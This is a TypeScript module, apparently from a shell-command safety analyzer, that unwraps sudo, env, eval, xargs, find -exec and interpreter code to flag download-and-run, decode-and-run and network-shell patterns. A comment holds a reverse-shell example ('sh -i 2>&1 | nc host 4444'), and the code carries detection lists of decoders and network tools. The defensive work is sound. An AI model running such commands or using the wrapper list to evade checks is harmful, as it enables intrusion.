/**
 * From a command line to Facts: parse it, then follow every way it runs something else:
 * wrappers (sudo, env, nice, timeout, nohup, busybox, command, exec…), shells with -c
 * and shells reading a pipe or a here-document, eval, source, xargs (with the piped
 * words when they are literal), find -exec / -delete, watch, su -c, interpreters' inline
 * code (its string literals are judged as commands too), and decoded payloads. Nesting
 * is bounded by LIMITS.depth; what lies deeper is reported as "depth", not passed.
 */
import { type Facts, HOT, type Invocation, newFacts, type UpstreamFacts } from "./facts.js";
import { readsSecret } from "./secrets.js";
import { DOWNLOADERS, fileAccesses, NETWORK } from "./files.js";
import { basename, decodeBase64, foldPipelineOf } from "./fold.js";
import { type OptionSpec, parseArgs } from "./matchers.js";
import { normalizePath } from "./normalize.js";
import { type Budget, type Command, newBudget, newState, parseScript, type Pipeline, type Script, type ShellState, type Word } from "./tokenizer.js";
import { LIMITS } from "./types.js";

export const SHELLS = new Set(["sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "fish", "rbash", "yash", "tcsh", "csh", "busybox-sh"]);
const FIND_TESTS = /^-(i?name|i?path|i?regex|type|newer|mtime|mmin|atime|amin|ctime|size|empty|user|group|perm|wholename|iwholename|links|inum|samefile|prune)$/;
const DECLARERS = new Set(["export", "declare", "typeset", "local", "readonly"]);
const INTERPRETER_CODE_FLAGS: Record<string, readonly string[]> = {
  python: ["-c"], perl: ["-e", "-E"], ruby: ["-e"], node: ["-e", "--eval", "-p", "--print"], php: ["-r"], lua: ["-e"], deno: ["eval"], bun: ["-e", "--eval"], pwsh: ["-c", "-command", "-Command"], powershell: ["-c", "-command", "-Command"],
};

/** Wrappers: run their operand as a command; the spec says which options take values. */
const WRAPPERS: Record<string, OptionSpec & { skip?: number }> = {
  sudo: { shortValue: "ugCDhprtTU", longValue: ["user", "group", "close-from", "chdir", "host", "prompt", "role", "type", "command-timeout", "other-user"], stopAtOperand: true },
  doas: { shortValue: "uC", stopAtOperand: true },
  pkexec: { longValue: ["user"], stopAtOperand: true },
  run0: { shortValue: "uDg", longValue: ["user", "group", "chdir", "setenv", "property", "unit", "description", "slice", "nice"], stopAtOperand: true },
  nice: { shortValue: "n", longValue: ["adjustment"], stopAtOperand: true },
  nohup: { stopAtOperand: true },
  setsid: { stopAtOperand: true },
  unbuffer: { stopAtOperand: true },
  builtin: { stopAtOperand: true },
  command: { stopAtOperand: true },
  exec: { shortValue: "a", stopAtOperand: true },
  time: { shortValue: "fo", longValue: ["format", "output"], stopAtOperand: true },
  timeout: { shortValue: "ks", longValue: ["kill-after", "signal"], stopAtOperand: true, skip: 1 },
  stdbuf: { shortValue: "ioe", longValue: ["input", "output", "error"], stopAtOperand: true },
  ionice: { shortValue: "cnp", longValue: ["class", "classdata", "pid"], stopAtOperand: true },
  chrt: { stopAtOperand: true, skip: 1 },
  taskset: { stopAtOperand: true, skip: 1 },
  chroot: { longValue: ["userspec", "groups"], stopAtOperand: true, skip: 1 },
  nsenter: { shortValue: "tSGmunipUCTr", longValue: ["target", "setuid", "setgid"], stopAtOperand: true },
  unshare: { stopAtOperand: true },
  strace: { shortValue: "oepsuEIbaPX", stopAtOperand: true },
  ltrace: { shortValue: "oepsuEIbaPX", stopAtOperand: true },
  busybox: { stopAtOperand: true },
  flock: { shortValue: "wE", longValue: ["timeout", "conflict-exit-code"], stopAtOperand: true, skip: 1 },
  caffeinate: { shortValue: "tw", stopAtOperand: true },
  proxychains: { shortValue: "f", stopAtOperand: true },
  firejail: { stopAtOperand: true },
  doublecmd: { stopAtOperand: true },
};

/** Wrappers that also take a command as one string ("-c STRING"). */
const STRING_COMMAND: Record<string, string> = { su: "c", runuser: "c", flock: "c", script: "c", sg: "c", watch: "", env: "S" };

export interface AnalyzeContext {
  cwd: string;
  home: string;
  facts: Facts;
  budget: Budget;
}

/** Facts of a command line; never throws on any input. */
export function analyzeCommand(command: string, cwd: string, home: string, budget = newBudget(), facts = newFacts()): Facts {
  const ctx: AnalyzeContext = { cwd, home, facts, budget };
  analyzeText(command, ctx, 0, newState(home, cwd, budget));
  for (const e of budget.exceeded) facts.exceeded.add(e);
  return facts;
}

/**
 * Facts of a command line the plain lane cut into `pipelines` (lane.ts): the text is kept
 * whole for text-level rules, and only those pipelines are parsed and analyzed, in order,
 * into the same facts, exactly as the full analysis of the text would see them.
 */
export function analyzePipelines(command: string, pipelines: readonly string[], cwd: string, home: string, budget = newBudget(), facts = newFacts()): Facts {
  const ctx: AnalyzeContext = { cwd, home, facts, budget };
  if (facts.sources.length < LIMITS.scripts) facts.sources.push(command);
  // One parse of the whole text is what the full analysis spends of this bound.
  budget.scripts -= 1;
  for (const text of pipelines) {
    budget.scripts += 1;
    const state = newState(home, cwd, budget);
    analyzeScript(parseScript(text, state, 0), ctx, 0, false);
  }
  for (const e of budget.exceeded) facts.exceeded.add(e);
  return facts;
}

/** Facts of inline code in `language` (a prompt's python fence): its code rules and its strings as commands. */
export function analyzeInterpreterCode(language: string, code: string, cwd: string, home: string, budget = newBudget(), facts = newFacts()): Facts {
  interpreterCode(language, code, { cwd, home, facts, budget }, 0);
  for (const e of budget.exceeded) facts.exceeded.add(e);
  return facts;
}

/** Parses `text` as a script at `depth` and adds what it does to the facts. */
export function analyzeText(text: string, ctx: AnalyzeContext, depth: number, state?: ShellState): Invocation[] {
  if (depth > LIMITS.depth) {
    ctx.budget.exceeded.add("depth");
    return [];
  }
  const shell = state ?? childState(ctx);
  return analyzeScript(parseScript(text, shell, depth), ctx, depth);
}

function childState(ctx: AnalyzeContext): ShellState {
  return newState(ctx.home, ctx.cwd, ctx.budget);
}

function analyzeScript(script: Script, ctx: AnalyzeContext, depth: number, recordSource = true): Invocation[] {
  const all: Invocation[] = [];
  if (recordSource && ctx.facts.sources.length < LIMITS.scripts) ctx.facts.sources.push(script.source);
  for (const pipeline of script.pipelines) all.push(...analyzePipeline(pipeline, ctx, depth));
  return all;
}

function analyzePipeline(pipeline: Pipeline, ctx: AnalyzeContext, depth: number): Invocation[] {
  const all: Invocation[] = [];
  const shells: Invocation[] = [];
  let upstream = NO_UPSTREAM;
  for (let k = 0; k < pipeline.stages.length; k += 1) {
    const stage = pipeline.stages[k]!;
    const invocations = analyzeCommandNode(stage, ctx, depth, upstream, pipeline, k);
    upstream = withStage(upstream, invocations, ctx.home);
    for (const inv of invocations) {
      // A shell whose output goes to the network: `sh -i 2>&1 | nc host 4444`.
      if (NETWORK.has(inv.program) && shells.length > 0) ctx.facts.events.push({ kind: "network-shell", evidence: `${shells[0]!.line} | ${inv.line}` });
      if (SHELLS.has(inv.program)) shells.push(inv);
    }
    all.push(...invocations);
  }
  return all;
}

function analyzeCommandNode(command: Command, ctx: AnalyzeContext, depth: number, upstream: UpstreamFacts, pipeline: Pipeline, stage: number): Invocation[] {
  const facts = ctx.facts;
  for (const a of command.assignments) facts.assignments.push({ name: a.name, value: a.value.text });
  const inner: Invocation[] = [];
  for (const w of command.words) if (w.subs) for (const s of w.subs) inner.push(...analyzeScript(s, ctx, depth + 1));
  for (const a of command.assignments) if (a.value.subs) for (const s of a.value.subs) inner.push(...analyzeScript(s, ctx, depth + 1));
  for (const r of command.redirects) if (r.target.subs) for (const s of r.target.subs) inner.push(...analyzeScript(s, ctx, depth + 1));
  if (command.words.length === 0) {
    // Only redirections (`> /etc/passwd`): still writes.
    if (command.redirects.length > 0) return [invoke([{ text: ":", dynamic: false, quoted: false, head: ":" }], command, ctx, depth, upstream, inner, [], pipeline, stage)];
    return inner;
  }
  return [invoke(command.words, command, ctx, depth, upstream, inner, [], pipeline, stage), ...inner];
}

/** One program run: records it and its file accesses, then follows what it runs in turn. */
function invoke(words: Word[], command: Command, ctx: AnalyzeContext, depth: number, upstream: UpstreamFacts, inner: Invocation[], via: string[], pipeline: Pipeline, stage: number): Invocation {
  const facts = ctx.facts;
  let first = words[0]!;
  let args = words.slice(1);
  let program = first.dynamic && first.text === "" ? "" : basename(first.text);
  // Unwrap wrappers: `sudo -u x env A=1 nice -n 5 rm …` runs rm.
  for (let guard = 0; ; guard += 1) {
    if (guard === 16) {
      ctx.budget.exceeded.add("depth");
      break;
    }
    if (program === "busybox" && args[0] !== undefined && SHELLS.has(args[0].text)) program = "busybox-sh";
    const spec = WRAPPERS[program] ?? (program === "env" ? { shortValue: "uCS", longValue: ["unset", "chdir", "split-string"], stopAtOperand: true } : undefined);
    if (spec === undefined) break;
    if (program === "command" && args.some((w) => w.text === "-v" || w.text === "-V")) break;
    recordStringCommand(program, args, ctx, depth);
    let rest = parseArgs(args, spec).operands;
    if (program === "env") {
      while (rest[0] !== undefined && /^[A-Za-z_]\w*=/.test(rest[0].text)) {
        const t = rest.shift()!.text;
        facts.assignments.push({ name: t.slice(0, t.indexOf("=")), value: t.slice(t.indexOf("=") + 1) });
      }
    }
    rest = rest.slice(spec.skip ?? 0);
    if (rest.length === 0) {
      // `sudo -i`, `sudo -s`, `sudo su`: an interactive root shell is still sudo.
      const line = [program, ...args.map((w) => w.text)].join(" ");
      const inv = record(program, false, args, command, ctx, depth, upstream, inner, via, line);
      return inv;
    }
    // The wrapper itself is a program run too (sudo, nsenter): rules about it see its arguments.
    record(program, false, args, command, ctx, depth, upstream, inner, via, [program, ...args.map((w) => w.text)].join(" "), false);
    via = [...via, program];
    first = rest[0]!;
    args = rest.slice(1);
    program = first.dynamic && first.text === "" ? "" : basename(first.text);
  }
  // A program run by path (./install.sh) is an executed file, like `sh install.sh`.
  if (first.text.includes("/") && !first.dynamic) facts.executed.push(normalizePath(first.text, ctx.cwd, ctx.home));
  const line = [first.text || "$?", ...args.map((w) => (w.dynamic && w.text === "" ? "$?" : w.text))].join(" ");
  const inv = record(program, program === "" || (first.dynamic && /[$]/.test(first.text)), args, command, ctx, depth, upstream, inner, via, line);
  follow(inv, command, ctx, depth, pipeline, stage);
  return inv;
}

function record(program: string, dynamicProgram: boolean, args: Word[], command: Command, ctx: AnalyzeContext, depth: number, upstream: UpstreamFacts, inner: Invocation[], via: string[], line: string, touches = true): Invocation {
  const redirects = touches ? command.redirects : [];
  let hot = HOT.test(line);
  for (const r of redirects) hot ||= HOT.test(r.target.text);
  const inv: Invocation = { program, dynamicProgram, args, via, depth, upstream, inner, redirects, line: line.length > 512 ? line.slice(0, 512) : line, hot };
  ctx.facts.invocations.push(inv);
  if (DECLARERS.has(program)) {
    for (const w of args) {
      const m = /^([A-Za-z_]\w*)=/.exec(w.text);
      if (m !== null) ctx.facts.assignments.push({ name: m[1]!, value: w.text.slice(m[0].length) });
    }
  }
  if (!touches) return inv;
  const { files, downloaded } = fileAccesses(inv, ctx);
  for (const f of files) {
    if (ctx.facts.files.length >= LIMITS.files) {
      ctx.budget.exceeded.add("files");
      break;
    }
    ctx.facts.files.push(f);
  }
  for (const d of downloaded) ctx.facts.downloaded.add(d);
  return inv;
}

/** su -c, runuser -c, flock -c, script -c, sg -c, watch, env -S: their string is a command too. */
function recordStringCommand(program: string, args: Word[], ctx: AnalyzeContext, depth: number): void {
  const flag = STRING_COMMAND[program];
  if (flag === undefined) return;
  if (program === "watch") {
    const parsed = parseArgs(args, { shortValue: "nqd", longValue: ["interval", "differences"], stopAtOperand: true });
    if (parsed.operands.length > 0) analyzeText(parsed.operands.map((w) => w.text).join(" "), ctx, depth + 1);
    return;
  }
  for (let k = 0; k < args.length; k += 1) {
    const t = args[k]!.text;
    if (t === `-${flag}` || t === "--command" || t === "--split-string") {
      if (args[k + 1] !== undefined) analyzeText(args[k + 1]!.text, ctx, depth + 1);
    } else if (t.startsWith(`-${flag}`) && t.length > 2 && program !== "su") analyzeText(t.slice(2), ctx, depth + 1);
    else if (t.startsWith("--split-string=") || t.startsWith("--command=")) analyzeText(t.slice(t.indexOf("=") + 1), ctx, depth + 1);
  }
}

/** What a program runs in its turn: shells, eval, source, interpreters, xargs, find. */
function follow(inv: Invocation, command: Command, ctx: AnalyzeContext, depth: number, pipeline: Pipeline, stage: number): void {
  const facts = ctx.facts;
  if (depth > LIMITS.depth) {
    ctx.budget.exceeded.add("depth");
    return;
  }
  const p = inv.program;
  const args = inv.args;
  if (STRING_COMMAND[p] !== undefined && WRAPPERS[p] === undefined && p !== "env") recordStringCommand(p, args, ctx, depth);
  const interpreter = interpreterName(p);
  if (SHELLS.has(p) || p === "busybox-sh") {
    let k = p === "busybox-sh" ? 1 : 0;
    let hasC = false;
    let hasS = false;
    for (; k < args.length; k += 1) {
      const t = args[k]!.text;
      if (t === "--") {
        k += 1;
        break;
      }
      if (/^[-+][A-Za-z]*$/.test(t) && t.length > 1) {
        if (/^-[A-Za-z]*c/.test(t)) hasC = true;
        if (/^-[A-Za-z]*s/.test(t)) hasS = true;
        if (t === "-o" || t === "+o") k += 1;
        continue;
      }
      if (/^--(rcfile|init-file)$/.test(t)) {
        k += 1;
        continue;
      }
      if (t.startsWith("--")) continue;
      break;
    }
    const operand = args[k];
    if (hasC) {
      if (operand !== undefined) {
        runsText(operand, inv, ctx, depth);
      }
    } else if (operand !== undefined && !hasS) {
      runsFile(operand, inv, ctx);
    } else readsStdin(inv, command, ctx, depth, pipeline, stage);
  } else if (p === "eval") {
    for (const w of args) runsText(w, inv, ctx, depth, false);
    analyzeText(args.map((w) => w.text).join(" "), ctx, depth + 1);
  } else if (p === "source" || p === ".") {
    if (args[0] !== undefined) runsFile(args[0], inv, ctx);
  } else if (interpreter !== undefined) {
    const flags = INTERPRETER_CODE_FLAGS[interpreter] ?? [];
    let code: string | undefined;
    let script: Word | undefined;
    for (let k = 0; k < args.length; k += 1) {
      const t = args[k]!.text;
      const flag = flags.find((f) => t === f || (f.length === 2 && t.startsWith(f) && t.length > 2 && interpreter !== "node"));
      if (flag !== undefined) {
        code = t === flag ? (args[k + 1]?.text ?? "") : t.slice(flag.length);
        break;
      }
      if (t === "-encodedcommand" || t === "-EncodedCommand" || t === "-enc" || t === "-e" && (interpreter === "pwsh" || interpreter === "powershell")) {
        code = Buffer.from(args[k + 1]?.text ?? "", "base64").toString("utf16le");
        break;
      }
      if (t === "-m") break;
      if (!t.startsWith("-")) {
        script = args[k];
        break;
      }
    }
    if (code !== undefined) interpreterCode(interpreter, code, ctx, depth);
    else if (script !== undefined && script.text !== "-") runsFile(script, inv, ctx);
    else readsStdin(inv, command, ctx, depth, pipeline, stage);
  } else if (p === "xargs") {
    const parsed = parseArgs(args, { shortValue: "dEILnPsa", longValue: ["delimiter", "eof", "replace", "max-lines", "max-args", "max-procs", "max-chars", "arg-file"], stopAtOperand: true });
    const innerWords = parsed.operands.length > 0 ? parsed.operands : [lit("echo")];
    const piped = foldPipelineOf(pipeline, stage);
    const items = piped === undefined ? [{ text: "", dynamic: true, quoted: false, head: "" }] : piped.split(/[\s\0]+/).filter((t) => t !== "").slice(0, 64).map(lit);
    const replace = parsed.values.get("-I")?.[0] ?? parsed.values.get("--replace")?.[0] ?? (parsed.short.has("i") ? "{}" : undefined);
    const words = replace === undefined ? [...innerWords, ...items] : innerWords.map((w) => (w.text.includes(replace) ? { ...w, text: w.text.split(replace).join(items.map((i) => i.text).join(" ")), dynamic: w.dynamic || piped === undefined } : w));
    invoke(words, command, ctx, depth + 1, inv.upstream, [], [...inv.via, "xargs"], pipeline, stage);
  } else if (p === "find") {
    const roots: string[] = [];
    let k = 0;
    while (k < args.length && /^-[HLP]$/.test(args[k]!.text)) k += 1;
    for (; k < args.length && !/^[-!(]/.test(args[k]!.text); k += 1) roots.push(args[k]!.text);
    if (roots.length === 0) roots.push(".");
    for (; k < args.length; k += 1) {
      const t = args[k]!.text;
      // With tests (-name, -type…) find deletes what matches inside its roots, not the roots.
      if (t === "-delete") {
        const filtered = args.slice(0, k).some((w) => FIND_TESTS.test(w.text));
        for (const r of roots) {
          const root = normalizePath(r, ctx.cwd, ctx.home);
          facts.files.push({ op: "delete", path: filtered ? (root === "/" ? "/*" : `${root}/*`) : root, glob: filtered, recursive: true, program: "find" });
        }
      }
      else if (/^-(exec|execdir|ok|okdir)$/.test(t)) {
        // {} is each match: the root itself only when nothing filters the matches.
        const filtered = args.slice(0, k).some((w) => FIND_TESTS.test(w.text));
        const each = filtered ? (roots[0] === "/" ? "/*" : `${roots[0]!.replace(/\/$/, "")}/*`) : roots[0]!;
        const words: Word[] = [];
        for (k += 1; k < args.length && args[k]!.text !== ";" && args[k]!.text !== "+"; k += 1) {
          const w = args[k]!;
          words.push(w.text.includes("{}") ? { ...w, text: w.text.split("{}").join(each) } : w);
        }
        if (words.length > 0) invoke(words, command, ctx, depth + 1, inv.upstream, [], [...inv.via, "find"], pipeline, stage);
      }
    }
  }
}

function lit(text: string): Word {
  return { text, dynamic: false, quoted: true, head: "" };
}

function interpreterName(p: string): string | undefined {
  if (/^python[0-9.]*$/.test(p) || p === "pypy" || p === "pypy3") return "python";
  if (/^perl[0-9.]*$/.test(p)) return "perl";
  if (/^ruby[0-9.]*$/.test(p)) return "ruby";
  if (p === "node" || p === "nodejs") return "node";
  if (/^php[0-9.]*$/.test(p)) return "php";
  if (/^lua[0-9.]*$/.test(p) || p === "luajit") return "lua";
  if (p === "pwsh" || p === "powershell" || p === "powershell.exe") return p === "pwsh" ? "pwsh" : "powershell";
  if (p === "bun" || p === "deno") return p;
  return undefined;
}

/** A shell's or eval's script given as a word: judged, and a download or decode inside it noted. */
function runsText(word: Word, inv: Invocation, ctx: AnalyzeContext, depth: number, analyze = true): void {
  const innerPrograms = word.subs === undefined ? [] : inv.inner;
  if (innerPrograms.some((i) => DOWNLOADERS.has(i.program))) ctx.facts.events.push({ kind: "download-exec", evidence: inv.line });
  else if (innerPrograms.some(isDecoder)) ctx.facts.events.push({ kind: "decode-exec", evidence: inv.line });
  if (analyze) analyzeText(word.text, ctx, depth + 1);
}

/** A shell, source or interpreter running a file: process substitution of a download, or a downloaded file. */
function runsFile(word: Word, inv: Invocation, ctx: AnalyzeContext): void {
  if (word.procSub) {
    if (inv.inner.some((i) => DOWNLOADERS.has(i.program))) ctx.facts.events.push({ kind: "download-exec", evidence: inv.line });
    else if (inv.inner.some(isDecoder)) ctx.facts.events.push({ kind: "decode-exec", evidence: inv.line });
    return;
  }
  ctx.facts.executed.push(normalizePath(word.text, ctx.cwd, ctx.home));
}

/** A shell or interpreter reading its program from stdin: a pipe, a here-document, a file. */
function readsStdin(inv: Invocation, command: Command, ctx: AnalyzeContext, depth: number, pipeline: Pipeline, stage: number): void {
  for (const r of command.redirects) {
    if (r.body !== undefined) analyzeText(r.body, ctx, depth + 1);
    else if (r.op === "<") ctx.facts.executed.push(normalizePath(r.target.text, ctx.cwd, ctx.home));
  }
  if (stage === 0) return;
  const upstream = inv.upstream;
  if (upstream.downloader) ctx.facts.events.push({ kind: "download-exec", evidence: `… | ${inv.line}` });
  if (upstream.decoder) ctx.facts.events.push({ kind: "decode-exec", evidence: `… | ${inv.line}` });
  if (upstream.network) ctx.facts.events.push({ kind: "network-shell", evidence: `… | ${inv.line}` });
  const text = foldPipelineOf(pipeline, stage);
  if (text !== undefined) analyzeText(text, ctx, depth + 1);
}

const NO_UPSTREAM: UpstreamFacts = { downloader: false, decoder: false, network: false, secretReader: false };

// The upstream of the next stage: this one's, and what the stage's invocations are.
function withStage(upstream: UpstreamFacts, invocations: readonly Invocation[], home: string): UpstreamFacts {
  let { downloader, decoder, network, secretReader } = upstream;
  for (const u of invocations) {
    downloader ||= DOWNLOADERS.has(u.program);
    decoder ||= isDecoder(u);
    network ||= NETWORK.has(u.program) || (u.program === "openssl" && u.args[0]?.text === "s_client");
    secretReader ||= readsSecret(u, home);
  }
  const same = downloader === upstream.downloader && decoder === upstream.decoder && network === upstream.network && secretReader === upstream.secretReader;
  return same ? upstream : { downloader, decoder, network, secretReader };
}

export function isDecoder(inv: Invocation): boolean {
  const p = inv.program;
  const a = inv.args.map((w) => w.text);
  if (p === "base64" || p === "base32" || p === "basenc") return a.some((t) => /^-(d|D|-decode|[a-zA-Z]*d[a-zA-Z]*)$/.test(t));
  if (p === "xxd") return a.includes("-r");
  if (p === "openssl") return a.includes("-d") || a.includes("base64") && a.includes("-d");
  if (p === "gzip" || p === "bzip2" || p === "xz" || p === "zstd" || p === "lz4") return a.some((t) => /^-[a-zA-Z]*d/.test(t) || t === "--decompress");
  if (p === "tr") return a.some((t) => /n-za-m|N-ZA-M/.test(t));
  return ["uudecode", "gunzip", "zcat", "bunzip2", "unxz", "xzcat", "unzstd", "rev"].includes(p);
}

/** Inline interpreter code: kept for code rules; its string literals and base64 blobs are judged as commands. */
function interpreterCode(language: string, code: string, ctx: AnalyzeContext, depth: number): void {
  ctx.facts.codes.push({ language, code: code.length > 16_384 ? code.slice(0, 16_384) : code });
  if (depth + 1 > LIMITS.depth) {
    ctx.budget.exceeded.add("depth");
    return;
  }
  let count = 0;
  for (const m of code.matchAll(/"((?:[^"\\\n]|\\.){2,2000})"|'((?:[^'\\\n]|\\.){2,2000})'|`([^`]{2,2000})`/g)) {
    if (++count > 64) break;
    const literal = (m[1] ?? m[2] ?? m[3] ?? "").replace(/\\(.)/g, "$1");
    if (/^[A-Za-z0-9+/]{16,}={0,2}$/.test(literal)) {
      const decoded = decodeBase64(literal);
      if (decoded !== undefined) {
        ctx.facts.codes.push({ language, code: decoded });
        analyzeText(decoded, ctx, depth + 1);
      }
    } else if (/[\s/]/.test(literal)) analyzeText(literal, ctx, depth + 1);
  }
}
